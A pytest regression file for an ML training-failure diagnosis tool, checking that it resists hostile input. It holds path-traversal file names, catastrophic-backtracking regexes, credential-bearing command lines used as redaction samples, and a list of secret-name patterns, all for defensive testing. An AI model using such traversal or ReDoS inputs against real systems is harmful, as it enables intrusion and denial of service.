"""Hostile and broken input (issue 18): one regression test per finding, each built from its reproducer.

Every test here bounds work by counts, sizes or "returns at all" under a generous subprocess timeout, never
by a measured duration."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from mldebug_rules.engine.packs import load_packs
from test_packs import GOOD_RULE, MANIFEST  # the same minimal pack as the pack-loading tests

from mldebug_rules.pack_tests import run_pack_tests


def cli(*args: str, timeout: float = 120.0, **kw: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mldebug_rules.cli", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        **kw,  # type: ignore[arg-type]
    )


def make_pack(root: Path, body: str = GOOD_RULE, tests: str | None = None) -> Path:
    d = root / "acme"
    d.mkdir(parents=True, exist_ok=True)
    (d / "pack.yaml").write_text(MANIFEST)
    (d / "rules.yaml").write_text(body)
    if tests is not None:
        (d / "rules.test.yaml").write_text(tests)
    return d


# -- 1. a pack's test case writes files only inside its temporary run directory ---------------------------


def test_pack_test_files_cannot_escape_the_case_directory(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    absolute = outside / "PWNED.txt"
    dotdot = "../../../../../../../../../../" + str(outside / "PWNED2.txt").lstrip("/")
    tests = (
        "cases:\n"
        "  - name: absolute\n"
        f"    files: {{{str(absolute)!r}: x}}\n"
        "    expect: {verdict: no_failure}\n"
        "  - name: dotdot\n"
        f"    files: {{{dotdot!r}: x}}\n"
        "    expect: {verdict: no_failure}\n"
        "  - name: nested relative paths still work\n"
        "    files: {'logs/rank0/train.log': 'hello'}\n"
        "    expect: {verdict: no_failure}\n"
    )
    d = make_pack(tmp_path, tests=tests)
    kb = load_packs([d], entry_points=False, strict=True)
    pack = next(p for p in kb.packs if p.name == "acme")
    results = list(run_pack_tests(kb, pack))
    assert not absolute.exists() and not (outside / "PWNED2.txt").exists()
    by_name = {r.name: r for r in results}
    assert not by_name["absolute"].ok and "relative path" in by_name["absolute"].diff[0]
    assert not by_name["dotdot"].ok and "relative path" in by_name["dotdot"].diff[0]
    assert by_name["nested relative paths still work"].ok, by_name["nested relative paths still work"].diff


# -- 2. ReDoS: lint rejects catastrophic patterns; the scanner's regex calls are bounded --------------------

REDOS_PACK = """signatures:
  - id: bees
    title: runs of b
    role: root
    hypotheses: [gpu_oom]
    regex: '(b+)+$'
    examples: {match: ["bbb"], no_match: ["fine"]}
rules:
  - id: r1
    title: t
    status: test
    description: d
    falsepositives: [none known]
    when:
      a: {kind: log.signature, match: {signature: bees}}
    then: {hypothesis: gpu_oom, weight: 0.5}
"""


def test_lint_rejects_nested_quantifiers(tmp_path: Path) -> None:
    from mldebug_rules.engine.lint import nested_quantifier

    from mldebug_rules.pack_lint import lint

    assert nested_quantifier("(b+)+$") and nested_quantifier(r"(?:\w+\s*)*:") and nested_quantifier("((b+))*")
    assert nested_quantifier(r"(?:\w+\.)+\w+") is None and nested_quantifier(r"x(\d+)?y") is None
    d = make_pack(tmp_path, REDOS_PACK)
    kb = load_packs([d], entry_points=False, strict=True)
    errors = [p for p in lint(kb, {"acme"}) if p.severity == "error"]
    assert any("bees" in p.message and "catastrophic backtracking" in p.message for p in errors), errors
    p = cli("rules", "lint", str(d))
    assert p.returncode != 0 and "catastrophic backtracking" in p.stdout + p.stderr


def test_lint_derived_attack_lines_catch_what_the_static_check_misses(tmp_path: Path) -> None:
    from mldebug_rules.engine import lint as lint_mod

    # Overlapping multi-character alternatives: no nested quantifier, still exponential on "aaaa...a!".
    body = REDOS_PACK.replace("'(b+)+$'", "'^(a|aa)+$'").replace('["bbb"]', '["aaa"]')
    kb = load_packs([make_pack(tmp_path, body)], entry_points=False, strict=True)
    assert lint_mod.nested_quantifier("^(a|aa)+$") is None
    errors = [p for p in lint_mod.backtracking_problems(kb, {"acme"}) if p.severity == "error"]
    assert errors and "catastrophic backtracking" in errors[0].message


@pytest.mark.parametrize("engine", ["python", "auto"])
def test_scanner_gives_up_a_pattern_past_its_bound(engine: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import mldebug_rules.collectors.logscan as ls

    monkeypatch.setattr(ls, "MATCH_TIMEOUT_S", 0.05)
    # The issue's (b+)+$ is defused by the `regex` module itself; (a|aa)+$ still backtracks exponentially.
    sc = ls.Scanner([ls.Pattern("oom", "CUDA out of memory"), ls.Pattern("as", "^(a|aa)+$")], engine=engine)
    data = b"a" * 60 + b"!\n" + b"RuntimeError: CUDA out of memory\n" + b"a" * 60 + b"!\naaa\n"
    res = sc.scan_bytes(data)
    if sc.engine.startswith("hyperscan"):
        # Hyperscan matches the end-anchored form exactly (the newline stands for the $), without backtracking:
        # the "aaa...a!" lines are never candidates, so nothing is given up and the "aaa" line is found.
        assert res.timed_out == []
        assert [(h.pattern, h.line_no) for h in res.hits] == [(0, 2), (1, 4)]
        return
    assert res.timed_out == [1]
    assert [(h.pattern, h.line_no) for h in res.hits] == [(0, 2)]  # the other pattern still works
    assert any("as:" in i and "catastrophic" in i for i in res.issues)
    assert sc.scan_bytes(b"aaa\n").hits == []  # given up for the rest of this scanner's work


# The second hangs in Python on "aaa...a!" (its first alternative backtracks before the second matches), and that
# line does match it, so hyperscan, which matches exactly and never backtracks, hands it to Python too.
@pytest.mark.parametrize("regex", ["(b+)+$", "^(?:(a|aa)+c|a+!)$"])
def test_diagnose_returns_and_disables_the_pack_whose_regex_hangs(tmp_path: Path, regex: str) -> None:
    d = make_pack(tmp_path, REDOS_PACK.replace("'(b+)+$'", repr(regex)).replace('["bbb"]', '["aaa!", "bbb"]'))
    log = tmp_path / "train.log"
    log.write_text(
        "b" * 60 + "!\n" + "a" * 60 + "!\n" + "RuntimeError: CUDA out of memory. Tried to allocate 2 GiB\n"
    )
    p = cli("diagnose", "--offline", "--rules", str(d), "--log", str(log), "--format", "json", timeout=300)
    assert p.returncode == 0, p.stderr
    import json

    report = json.loads(p.stdout)
    if regex != "(b+)+$":  # (b+)+$ is matched in linear time by the `regex` module: nothing to disable
        assert "pack disabled: acme" in p.stderr
        assert any("pack disabled: acme" in w for w in report["warnings"])
    assert report["hypotheses"][0]["id"] == "gpu_oom"  # the built-in packs keep working
    assert not any(e["source"].startswith("acme") for h in report["hypotheses"] for e in h["evidence"])


# -- 8. redaction is linear in its input --------------------------------------------------------------------


def test_redaction_of_long_words_returns() -> None:
    """Quadratic redaction took 5.5 s on 10,000 characters; these 200,000-character shapes would take hours.
    A linear pass finishes them all well inside the subprocess bound."""
    code = (
        "from mldebug_rules.redact import redact\n"
        "for w in ['x', 'token', 'A_KEY', 'a.', 'x:', 'https://', 'password=\"', '--key ', 'sk-', 'a://:']:\n"
        "    text = w * (200000 // len(w))\n"
        "    assert len(redact(text)) > 0\n"
        "print('done')\n"
    )
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0 and p.stdout.strip() == "done", p.stderr


# -- 5. secrets: the common forms, and redaction before every cut ------------------------------------------

SECRET = "Zq9vUnguessableSecret0042"


@pytest.mark.parametrize(
    "line",
    [
        f"curl -H 'Authorization: Bearer {SECRET}' https://api.example.com",
        f"Authorization: Basic {SECRET}",
        f"password: {SECRET}",
        f"  db_pass: {SECRET}",
        f"aws_secret_access_key = {SECRET}",
        f"export NCCL_IB_PASS={SECRET}",
        f"TORCH_HUB_AUTH={SECRET}",
        "creds ASIAQWERTYUIOPASDFGHJ loaded".replace("QWERTYUIOPASDFGHJ", "QWERTYUIOPASDFGH"),
        f"git clone https://ghs_{SECRET}@github.com/org/repo.git",
        "wandb login 0123456789abcdef0123456789abcdef01234567",
        f'{{"hf_token_v2": "{SECRET}", "lr": 0.1}}',
    ],
)
def test_common_secret_forms_are_redacted(line: str) -> None:
    from mldebug_rules.redact import redact

    out = redact(line)
    assert SECRET not in out and "ASIAQWERTYUIOPASDFGH" not in out and "0123456789abcdef01234567" not in out
    assert "[REDACTED]" in out


def test_prose_around_secrets_stays_readable() -> None:
    from mldebug_rules.redact import is_secret_name, redact

    for text in ("tokens: 4096", "token_count: 12", "sort key=loss", "bypass: true", "--use-key --lr 3e-4"):
        assert redact(text) == text
    assert is_secret_name("NCCL_IB_PASS") and is_secret_name("TORCH_HUB_AUTH")
    assert not any(is_secret_name(n) for n in ("NCCL_DEBUG", "COMPASS_DIR", "AUTHOR", "BYPASS_CACHE"))


@pytest.mark.parametrize("cut", [500, 2000, 4096])
def test_a_secret_ending_at_a_cut_does_not_leak(cut: int) -> None:
    from mldebug_rules.redact import clip

    url = f"https://user:{SECRET}"
    line = "w " * ((cut - len(url)) // 2) + "x" * ((cut - len(url)) % 2) + url + "@host.example.com/x"
    assert line.index("@") == cut
    for limit in (500, 2000):
        assert SECRET not in clip(line, limit) and SECRET[:8] not in clip(line, limit)


def test_secrets_at_the_cut_stay_out_of_reports(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    url = f"https://user:{SECRET}"
    lines = []
    for cut in (500, 2000, 4096):
        # The real wording ("CUDA out of memory. Tried to allocate ..."), padded so the URL's password
        # straddles the cut.
        head = "RuntimeError: CUDA out of memory. Tried to allocate "
        pad = cut - len(url) - len(head)
        lines.append(head + "y" * pad + url + "@host/x")
    (run / "train.log").write_text("\n".join(lines) + "\n")
    for fmt in ("json", "text"):
        p = cli("diagnose", str(run), "--offline", "--format", fmt)
        assert p.returncode == 0 and "gpu_oom" in p.stdout, p.stderr
        assert SECRET not in p.stdout and SECRET[:8] not in p.stdout
    bundle = tmp_path / "b.mldebug.json"
    assert cli("collect", str(run), "--offline", "--out", str(bundle)).returncode == 0
    assert SECRET[:8] not in bundle.read_text()


def test_smoke_output_file_tail_and_note_hold_no_secret(tmp_path: Path) -> None:
    import json
    import os

    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text(
        "Traceback (most recent call last):\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB\n"
    )
    script = (
        "import os\n"
        "print('token is', os.environ['HF_TOKEN'])\n"
        "print('HF_TOKEN=' + os.environ['HF_TOKEN'])\n"
        "print('x ' * 120000 + 'https://u:' + os.environ['HF_TOKEN'] + '@h/ tail')\n"  # crosses the head cut
        "print('Authorization: Bearer ' + os.environ['HF_TOKEN'])\n"
    )
    env = {**os.environ, "HF_TOKEN": f"hf_{SECRET}"}
    p = subprocess.run(
        [sys.executable, "-m", "mldebug_rules", "smoke", "run", str(run), "--hypothesis", "gpu_oom",
         "--timeout", "120", "--", sys.executable, "-c", script],
        capture_output=True, text=True, timeout=240, env=env,
    )  # fmt: skip
    assert p.returncode in (0, 1), p.stderr
    note = f"saw https://u:{SECRET}@host and password: {SECRET}"
    r = cli("smoke", "record", str(run), "--hypothesis", "gpu_oom", "--outcome", "confirmed", "--note", note)
    assert r.returncode == 0, r.stderr
    state = run / ".mldebug"
    for f in state.iterdir():
        assert SECRET not in f.read_text(errors="replace"), f.name
    recs = [json.loads(x) for x in (state / "smokes.jsonl").read_text().splitlines()]
    assert "[REDACTED]" in recs[0]["output_tail"] and "[REDACTED]" in recs[1]["note"]
    out = (run / recs[0]["output_file"]).read_text()
    assert "token is [REDACTED]" in out or "token is" not in out  # the bare value is a token shape (hf_...)
    assert SECRET not in p.stdout + p.stderr + r.stdout + r.stderr
    rep = cli("diagnose", str(run), "--offline", "--format", "json")
    assert SECRET not in rep.stdout


# -- 4 and 7. only regular files are read: FIFOs, devices and symlinks to them are unreadable evidence ------

ODD_NAMES = [
    "train.log",
    "dmesg.txt",
    "metrics.jsonl",
    "metrics.csv",
    "trainer_state.json",
    "x.mldebug.json",
    "nccl_trace_rank_0",
    "nvidia-smi-q.txt",
    "model.safetensors",
    "events.out.tfevents.1.host",
]


def _odd_run(tmp_path: Path, kind: str) -> Path:
    import os

    run = tmp_path / f"run-{kind}"
    run.mkdir()
    for name in ODD_NAMES:
        p = run / name
        if kind == "fifo":
            os.mkfifo(p)
        elif kind == "device":
            p.symlink_to("/dev/zero")
        else:  # a symlink to a FIFO elsewhere
            target = tmp_path / f"fifo-{name}"
            os.mkfifo(target)
            p.symlink_to(target)
    (run / "rank1.log").write_text("RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    return run


@pytest.mark.parametrize("kind", ["fifo", "device", "symlink"])
def test_fifos_and_devices_are_reported_not_read(tmp_path: Path, kind: str) -> None:
    import json

    run = _odd_run(tmp_path, kind)
    p = cli("diagnose", str(run), "--offline", "--format", "json", timeout=300)
    assert p.returncode == 0, p.stderr
    report = json.loads(p.stdout)
    assert report["hypotheses"][0]["id"] == "gpu_oom"  # the regular file's evidence still counts
    details = " ".join(pr["detail"] for pr in report["probes"])
    assert "not a regular file" in details
    bundle = tmp_path / f"b-{kind}.mldebug.json"
    assert cli("collect", str(run), "--offline", "--out", str(bundle), timeout=300).returncode == 0


def test_named_fifo_log_returns(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "train.log"
    os.mkfifo(fifo)
    p = cli("diagnose", "--offline", "--log", str(fifo), timeout=300)
    assert p.returncode == 2 and "not a regular file (fifo)" in p.stderr


def test_fifo_smoke_state_is_refused_not_waited_on(tmp_path: Path) -> None:
    import os

    run = tmp_path / "run"
    (run / ".mldebug").mkdir(parents=True)
    (run / "train.log").write_text("RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    os.mkfifo(run / ".mldebug" / "smokes.jsonl")
    p = cli("diagnose", str(run), "--offline", timeout=300)
    assert p.returncode == 0 and "smoke_state: error" in p.stdout and "fifo" in p.stdout, p.stdout
    r = cli(
        "smoke",
        "record",
        str(run),
        "--hypothesis",
        "gpu_oom",
        "--outcome",
        "confirmed",
        "--note",
        "by hand",
        timeout=300,
    )
    assert r.returncode == 2 and "fifo" in r.stderr and "Traceback" not in r.stderr


def test_safe_open_refuses_every_odd_kind(tmp_path: Path) -> None:
    import os
    import socket

    from mldebug_rules.engine.safeio import Unreadable, open_regular, read_capped

    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "dev").symlink_to("/dev/null")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "sock"))
    (tmp_path / "big").write_bytes(b"x" * 100)
    (tmp_path / "ok").symlink_to(tmp_path / "big")
    for name, why in (
        ("fifo", "fifo"),
        ("dev", "character device"),
        ("sock", "socket"),
        ("nope", "not found"),
    ):
        with pytest.raises(Unreadable, match=why):
            open_regular(tmp_path / name)
    with pytest.raises(Unreadable, match="larger than 99 bytes"):
        read_capped(tmp_path / "big", 99)
    assert read_capped(tmp_path / "ok", 100) == b"x" * 100  # a symlink to a regular file is fine
    sock.close()


# -- 3. flight recorder rank numbers never size an allocation ------------------------------------------------


def _tiny_dump(rank: int) -> bytes:
    import pickle

    entry = {"collective_seq_id": 7, "profiling_name": "nccl:all_reduce", "state": "scheduled", "pg_id": 0}
    return pickle.dumps({"version": "2.4", "rank": rank, "entries": [entry]}, protocol=2)


@pytest.mark.parametrize("big", [5_000_000, 100_000_000, 10**40])
def test_huge_rank_numbers_cost_nothing(tmp_path: Path, big: int) -> None:
    from mldebug_rules.collectors import flightrec
    from mldebug_rules.engine.facts import FactRegistry

    (tmp_path / "nccl_trace_rank_0").write_bytes(_tiny_dump(0))
    (tmp_path / f"nccl_trace_rank_{big}").write_bytes(_tiny_dump(1))
    found = flightrec.find_dumps([tmp_path])
    dumps = [flightrec.parse_dump(r, p, p.name) for r, p in found]
    facts = flightrec.analyse(dumps, FactRegistry.load())
    missing = [f for f in facts if f.kind == "flight.dump" and f.attrs["status"] == "missing"]
    assert len(missing) <= flightrec.MAX_MISSING_FACTS
    if big <= flightrec.MAX_RANK:
        assert len(missing) == flightrec.MAX_MISSING_FACTS and f"up to {big}" in missing[-1].text
    else:
        assert not missing  # a rank past the cap is not compared (nor allocated for)


def test_bundle_group_ranks_cost_nothing() -> None:
    from mldebug_rules.collectors import flightrec
    from mldebug_rules.engine.facts import FactRegistry

    d = flightrec.Dump(0, "b.mldebug.json", "ok")
    d.last = {"0": (7, "nccl:all_reduce", "scheduled")}
    d.group_ranks = {"0": [0, 500_000, 30_000_000, 10**12]}  # the issue's 30,000,000 is past MAX_RANK
    facts = flightrec.analyse([d], FactRegistry.load())
    assert len([f for f in facts if f.attrs.get("status") == "missing"]) == flightrec.MAX_MISSING_FACTS
    lag = [f for f in facts if f.kind == "flight.lagging_rank"]
    assert [f.rank for f in lag] == [500_000]  # a named member under the cap is still reported, sparsely


# -- 12. a named input that cannot be read is exit 2 -------------------------------------------------------


def test_unreadable_named_log_is_exit_2(tmp_path: Path) -> None:
    import os

    locked = tmp_path / "locked.log"
    locked.write_text("RuntimeError: CUDA out of memory\n")
    locked.chmod(0)
    if os.access(locked, os.R_OK):
        pytest.skip("running as root: permissions are not enforced")
    p = cli("diagnose", "--offline", "--log", str(locked))
    assert p.returncode == 2 and "permission denied" in p.stderr and "NO FAILURE" not in p.stdout


def test_named_device_and_fifo_are_exit_2(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "k.log"
    os.mkfifo(fifo)
    p = cli("diagnose", "--offline", "--kernel-log", str(fifo), timeout=300)
    assert p.returncode == 2 and "not a regular file (fifo)" in p.stderr
    p = cli("diagnose", "--offline", "--bundle", "/dev/zero", timeout=300)
    assert p.returncode == 2 and "character device" in p.stderr


# -- 6. a bad timestamp costs its line the timestamp, nothing more ------------------------------------------


@pytest.mark.parametrize("mtime", [None, 1e12])  # 1e12 s: a file modified in the year 33658
def test_bad_timestamps_do_not_drop_the_logs_facts(tmp_path: Path, mtime: float | None) -> None:
    import json
    import os

    run = tmp_path / "run"
    (run / "rank0").mkdir(parents=True)
    (run / "rank1").mkdir()
    r0 = run / "rank0" / "train.log"
    r0.write_text(
        "9999-12-31T23:59:59-14:00 start\n"
        "[E1201 10:05:33.123456 ProcessGroupNCCL.cpp:1]  [Rank 0] Watchdog caught collective operation timeout\n"
    )
    (run / "rank1" / "train.log").write_text(
        "0001-01-01T00:00:00+14:00 hello\n"
        "[rank1]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
    )
    if mtime is not None:
        os.utime(r0, (mtime, mtime))
    p = cli("diagnose", str(run), "--offline", "--format", "json")
    assert p.returncode == 0, p.stderr
    report = json.loads(p.stdout)
    logs = next(pr for pr in report["probes"] if pr["name"] == "logs")
    assert logs["status"] == "ok", logs
    assert "gpu_oom" in [h["id"] for h in report["hypotheses"]]


def test_time_of_line_survives_out_of_range_stamps() -> None:
    from mldebug_rules.collectors import kernel_log, lineinfo

    for line in ("9999-12-31T23:59:59-14:00 x", "0001-01-01T00:00:00+14:00 x", "2024-13-45T99:99:99 x"):
        assert lineinfo.time_of_line(line) is None
        assert lineinfo.time_of_line("[E1201 10:05:33.1 x.cpp:1] y", 1e12) is None
    assert kernel_log.line_time("9999-12-31T23:59:59-14:00 host kernel: x") is None


# -- 9. record sizes are capped: one huge metric line is skipped, never held ---------------------------------


def test_huge_metric_lines_are_skipped_in_pieces(tmp_path: Path) -> None:
    from mldebug_rules.collectors import metrics_parse as mp

    big = b"x" * (3 * mp.MAX_RECORD_BYTES)
    jl = tmp_path / "metrics.jsonl"
    jl.write_bytes(b'{"step": 1, "loss": 2.0}\n{"pad": "' + big + b'"}\n{"step": 2, "loss": 1.5}\n')
    s = mp.read_jsonl(jl, "metrics.jsonl")
    assert s.series["loss"].values == [2.0, 1.5] and s.series["loss"].lines == [1, 3]
    csvf = tmp_path / "metrics.csv"
    csvf.write_bytes(b"step,loss\n1,2.0\n" + big + b"\n2,1.5\n")
    c = mp.read_csv(csvf, "metrics.csv")
    assert c.series["loss"].values == [2.0, 1.5]
    # Pieces: the reader never asks for more than the cap (plus one) at a time.
    import io

    class Spy(io.BytesIO):
        def readline(self, size: int = -1) -> bytes:  # type: ignore[override]
            assert 0 < size <= mp.MAX_RECORD_BYTES + 1
            return super().readline(size)

    assert list(mp.bounded_lines(Spy(b"a\n" + big + b"\nb\n"), mp.MAX_RECORD_BYTES)) == [b"a\n", None, b"b\n"]


def test_oversized_trainer_state_is_skipped_with_an_issue(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mldebug_rules.collectors import metrics_parse as mp

    monkeypatch.setattr(mp, "MAX_STRUCTURED_BYTES", 1000)
    p = tmp_path / "trainer_state.json"
    p.write_text('{"log_history": [' + ",".join(f'{{"step": {i}, "loss": 1.0}}' for i in range(100)) + "]}")
    out = mp.read_trainer_state(p, "trainer_state.json")
    assert any("larger than 1000 bytes" in i for i in out.issues), out.issues
    assert not out.series


# -- 10. facts per kind are bounded, and repeated diagnoses do not grow memory ------------------------------


def test_many_facts_are_bounded_per_kind_and_counted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The reproducer had 80,000 facts; the bound is what matters, so it is scaled down here."""
    from mldebug_rules.engine.facts import FactRegistry

    from mldebug_rules import diagnose as dg

    monkeypatch.setattr(dg, "FACTS_KEPT_PER_KIND", 40)
    reg = FactRegistry.load()
    extra = [
        reg.make(
            "log.signature",
            {"signature": "cuda_oom", "role": "root", "stream": "train", "count": 1},
            file=f"r{i}.log",
            line=1,
            rank=i,
            text="torch.OutOfMemoryError: CUDA out of memory",
        )
        for i in range(300)
    ]
    run = tmp_path / "run"
    run.mkdir()
    from mldebug_rules.engine import backend_durable

    backends = ("durable", "python") if backend_durable.available()[0] else ("python",)  # 3.13: no durable
    for backend in backends:
        d = dg.diagnose(dg.Request(run_dirs=[run], offline=True, engine=backend), extra_facts=extra)
        assert any("260 log.signature facts" in w for w in d.warnings), d.warnings
        assert d.gate.hypotheses and d.gate.hypotheses[0].id == "gpu_oom"


def test_repeated_diagnoses_do_not_grow_memory(tmp_path: Path) -> None:
    """Each diagnosis once left its durable-rules session behind (2.45 MB a call, MemoryError at call 1025)."""
    code = (
        "import gc, sys\n"
        "from pathlib import Path\n"
        "from mldebug_rules.diagnose import Request, diagnose, load_kb\n"
        "from mldebug_rules.collectors.registry import default_probes\n"
        "run = Path(sys.argv[1]); req = Request(run_dirs=[run], offline=True)\n"
        "kb = load_kb(req); probes = default_probes(live=False)\n"
        "rss = lambda: int(open('/proc/self/statm').read().split()[1]) * 4096\n"
        "for i in range(60):\n"
        "    diagnose(req, kb=kb, probes=probes)\n"
        "    if i == 9: gc.collect(); base = rss()\n"
        "gc.collect(); print((rss() - base) / 2**20)\n"
    )
    fixture = Path(__file__).parent.parent / "fixtures" / "shape_mismatch"
    p = subprocess.run(
        [sys.executable, "-c", code, str(fixture)], capture_output=True, text=True, timeout=600
    )
    assert p.returncode == 0, p.stderr
    assert float(p.stdout.strip()) < 30, p.stdout  # 50 calls used to add about 120 MB


# -- 11. skipped input is reported, and the verdict is then uncertain ------------------------------------


def test_a_log_too_deep_is_reported_and_the_verdict_uncertain(tmp_path: Path) -> None:
    import json

    run = tmp_path / "run"
    deep = run / "a" / "b" / "c" / "d" / "e" / "f" / "g"
    deep.mkdir(parents=True)
    (deep / "train.log").write_text("RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    (run / "train.log").write_text("step 1 loss 2.0\n")
    p = cli("diagnose", str(run), "--offline", "--format", "json")
    assert p.returncode == 0, p.stderr
    report = json.loads(p.stdout)
    assert report["verdict"] == "uncertain"
    assert any("deeper than" in w for w in report["warnings"])
    text = cli("diagnose", str(run), "--offline").stdout
    assert "NO FAILURE" not in text and "deeper than" in text


def test_too_many_files_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mldebug_rules.collectors import rundir

    from mldebug_rules.diagnose import Request, diagnose

    monkeypatch.setattr(rundir, "MAX_FILES", 5)
    run = tmp_path / "run"
    run.mkdir()
    for i in range(8):
        (run / f"w{i}.log").write_text("step 1 loss 2.0\n")
    (run / "zz_last.log").write_text("RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    d = diagnose(Request(run_dirs=[run], offline=True))
    assert d.gate.verdict == "uncertain"
    assert any("more than 5 files" in w for w in d.warnings), d.warnings


# -- 13. a read-only run directory: checked before anything runs ------------------------------------------


def test_read_only_state_dir_fails_before_running(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text("RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    (run / ".mldebug").write_text("not a directory")  # unwritable as a state dir, even for root
    marker = tmp_path / "ran"
    p = cli(
        "smoke", "run", str(run), "--hypothesis", "gpu_oom", "--",
        sys.executable, "-c", f"open({str(marker)!r}, 'w').close()",
    )  # fmt: skip
    assert p.returncode == 2 and "cannot write the smoke state" in p.stderr and "Traceback" not in p.stderr
    assert not marker.exists()  # nothing was run
    r = cli(
        "smoke", "record", str(run), "--hypothesis", "gpu_oom", "--outcome", "confirmed", "--note", "by hand"
    )
    assert r.returncode == 2 and "cannot write the smoke state" in r.stderr


# -- 17. --timeout must be a finite positive number ----------------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "-1", "0"])
def test_bad_smoke_timeouts_are_exit_2(tmp_path: Path, value: str) -> None:
    run = tmp_path / "run"
    run.mkdir()
    p = cli("smoke", "run", str(run), "--hypothesis", "gpu_oom", "--timeout", value, "--", "true")
    assert p.returncode == 2 and "--timeout" in p.stderr and "internal error" not in p.stderr


# -- 14. the smoke child dies with `smoke run`: own process group, TERM forwarded, PDEATHSIG -----------------


def _alive(pid: int) -> bool:
    import psutil

    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def _wait_file(path: Path, timeout: float = 120.0) -> str:
    import time

    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if path.exists() and path.read_text().strip():
            return path.read_text().strip()
        time.sleep(0.1)
    raise AssertionError(f"{path} never written")


def _wait_gone(pid: int, timeout: float = 60.0) -> bool:
    import time

    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if not _alive(pid):
            return True
        time.sleep(0.1)
    return False


@pytest.mark.parametrize("sig", ["TERM", "KILL"])
def test_smoke_child_does_not_outlive_its_runner(tmp_path: Path, sig: str) -> None:
    import os
    import signal

    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text("RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    pidfile = tmp_path / "child.pid"
    child = f"import os, time\nopen({str(pidfile)!r}, 'w').write(str(os.getpid()))\ntime.sleep(600)\n"
    runner = subprocess.Popen(
        [sys.executable, "-m", "mldebug_rules", "smoke", "run", str(run), "--hypothesis", "gpu_oom",
         "--timeout", "900", "--", sys.executable, "-c", child],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        pid = int(_wait_file(pidfile))
        assert os.getpgid(pid) != os.getpgid(runner.pid)  # its own process group
        runner.send_signal(getattr(signal, f"SIG{sig}"))
        runner.wait(timeout=120)
        assert _wait_gone(pid), f"smoke child {pid} outlived `smoke run` killed by SIG{sig}"
    finally:
        runner.kill()
        if pidfile.exists():
            with __import__("contextlib").suppress(OSError, ValueError):
                os.kill(int(pidfile.read_text()), signal.SIGKILL)


# -- and: a probe command's setsid grandchild is killed with it -------------------------------------------


@pytest.mark.parametrize("answers", [True, False])
def test_probe_command_leaves_no_setsid_grandchild(tmp_path: Path, answers: bool) -> None:
    import os
    import signal

    from mldebug_rules.collectors.base import run_command

    pidfile = tmp_path / "grandchild.pid"
    grand = f"import os, time; open({str(pidfile)!r}, 'w').write(str(os.getpid())); time.sleep(600)"
    fake_smi = (
        "import subprocess, sys, time\n"
        f"subprocess.Popen([sys.executable, '-c', {grand!r}], start_new_session=True,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        f"while not __import__('os').path.exists({str(pidfile)!r}): time.sleep(0.05)\n"
        f"print('GPU 0: fake')\n" + ("" if answers else "time.sleep(600)\n")
    )
    try:
        res = run_command([sys.executable, "-c", fake_smi], timeout_s=60 if answers else 5)
        assert res.status == ("ok" if answers else "timeout")
        pid = int(_wait_file(pidfile))
        assert _wait_gone(pid), "the probe's setsid grandchild is still running"
    finally:
        if pidfile.exists():
            with __import__("contextlib").suppress(OSError, ValueError):
                os.kill(int(pidfile.read_text()), signal.SIGKILL)


# -- 15. bundles are written whole or not at all, and a cut one is refused -----------------------------------


def test_bundle_is_atomic_and_a_cut_one_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import json
    import os

    from mldebug_rules.collectors.bundles import BundleError, read_bundle

    from mldebug_rules import cli as cli_mod

    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text(
        "".join(f"step {i} loss 2.0\n" for i in range(400)) + "RuntimeError: CUDA out of memory\n"
    )
    out = tmp_path / "b.mldebug.json"
    assert cli("collect", str(run), "--offline", "--out", str(out)).returncode == 0
    doc = read_bundle(out)
    assert doc["checksum"].startswith("sha256:")
    data = out.read_bytes()
    for cut in (8192, len(data) // 2, len(data) - 40):
        cut_file = tmp_path / f"cut{cut}.mldebug.json"
        cut_file.write_bytes(data[:cut])
        with pytest.raises(BundleError):
            read_bundle(cut_file)
    edited = json.loads(data)
    edited["facts"] = edited["facts"][:1]  # a valid JSON bundle with facts missing
    (tmp_path / "edited.mldebug.json").write_text(json.dumps(edited))
    with pytest.raises(BundleError, match="checksum mismatch"):
        read_bundle(tmp_path / "edited.mldebug.json")

    # A full disk: fsync reports ENOSPC (as it does when delayed allocation fails); nothing is left behind.
    def enospc(fd: int) -> None:
        raise OSError(28, "No space left on device")

    target = tmp_path / "full" / "x.mldebug.json"
    target.parent.mkdir()
    monkeypatch.setattr(os, "fsync", enospc)
    assert cli_mod.main(["collect", str(run), "--offline", "--out", str(target)]) == 2
    monkeypatch.undo()
    assert list(target.parent.iterdir()) == []


